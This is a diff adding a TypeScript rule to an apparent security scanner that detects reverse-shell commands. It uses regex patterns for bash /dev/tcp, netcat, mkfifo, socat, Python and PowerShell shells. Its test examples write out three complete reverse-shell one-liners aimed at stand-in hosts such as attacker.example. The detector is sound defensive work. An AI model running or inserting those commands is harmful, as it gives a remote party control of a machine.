@@ -1,0 +1,57 @@
+import type { Document } from '../../document.ts'
+import { defineRule, type Hit } from '../../rule.ts'
+import { mentions } from '../../signals/mentions.ts'
+
+/** Characters looked at on each side of a telling word: recipes fold over a few lines. */
+const AROUND = 500
+
+/** A shell whose input and output are a connection. A port probe opens the connection and nothing more. */
+const SHAPES: readonly RegExp[] = [
+  /(?:bash|sh|zsh)\s{1,4}-i\b[^\n]{0,60}(?:>&|&>|<>|0>&1)[^\n]{0,40}\/dev\/(?:tcp|udp)\//,
+  /exec\s{1,4}\d{1,3}<>\s?\/dev\/tcp\/[^]{0,200}(?:<&|>&)\s?\d/,
+  /\b(?:nc|ncat|netcat)\b[^\n|;]{0,100}\s-[a-z]{0,6}[ec]\s{0,3}(?:\/[\w/]{1,40}\/)?(?:ba|z|da|k)?sh\b|\b(?:nc|ncat|netcat)\b[^\n|;]{0,100}\s-e\s{1,3}(?:cmd|powershell)/,
+  /mkfifo\s{1,4}\S{1,100}[^]{0,200}\b(?:nc|ncat|netcat|openssl s_client|telnet)\b/,
+  /socat\b[^\n]{0,200}exec:[^\n]{0,60}(?:sh|cmd|bash)/,
+  /socket\.socket\([^]{0,400}(?:dup2\(|subprocess\.\w{2,12}\()[^]{0,200}(?:\/bin\/(?:ba)?sh|\[["']sh|cmd\.exe|["']-i["'])/,
+  /net\.sockets\.tcpclient[^]{0,500}(?:invoke-expression|iex\b|getstream)/,
+  /(?:fsockopen|tcpsocket\.(?:new|open)|net\.connect|net\.socket)\([^]{0,300}(?:exec|spawn|system|popen)\s{0,3}\(?[^\n]{0,60}(?:\/bin\/(?:ba)?sh|cmd\.exe|["'`]sh\b)/,
+]
+
+export default defineRule({
+  id: 'reverse-shell',
+  since: 1,
+  category: 'execution',
+  severity: 'crit',
+  confidence: 'high',
+  cwe: 'CWE-506',
+  title: 'Opens a shell to somebody else',
+  description: 'The command connects a shell to a remote machine, whose owner can then type commands on this one.',
+  remediation: 'Remove it. No skill needs to hand out a shell.',
+  harmlessIf: 'the file teaches defence and shows the command as an example',
+  needs: [['shellDanger', 'fetcher', 'network']],
+  examples: {
+    fires: [
+      'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n',
+      'nc -e /bin/sh attacker.example 9001\n',
+      'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.5 80 > /tmp/f\n',
+    ],
+    quiet: [
+      'Test the port with `timeout 1 bash -c "</dev/null"`.\n',
+      '```bash\nnc -zv db.example.com 5432\n```\n',
+      'A named pipe is made with `mkfifo queue`.\n',
+    ],
+  },
+  *match(document: Document): Iterable<Hit> {
+    const { text } = document.reading
+    let behind = -1
+    for (const { concept, start } of document.observe(mentions).all) {
+      if ((concept !== 'shellDanger' && concept !== 'fetcher' && concept !== 'network') || start < behind) continue
+      const from = Math.max(0, start - 120)
+      const window = text.slice(from, start + AROUND)
+      const found = SHAPES.map((shape) => shape.exec(window)).find(Boolean)
+      if (!found) continue
+      behind = from + found.index + found[0].length
+      yield { start: from + found.index, end: behind, firm: true }
+    }
+  },
+})
